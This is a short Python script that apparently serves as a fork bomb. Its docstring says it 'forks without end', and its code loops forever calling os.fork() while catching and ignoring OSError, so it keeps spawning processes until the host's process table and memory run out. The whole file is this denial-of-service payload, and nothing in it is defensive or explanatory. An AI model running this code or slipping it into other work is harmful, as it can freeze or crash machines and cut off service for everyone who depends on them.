"""Forks without end and never minds a refusal."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
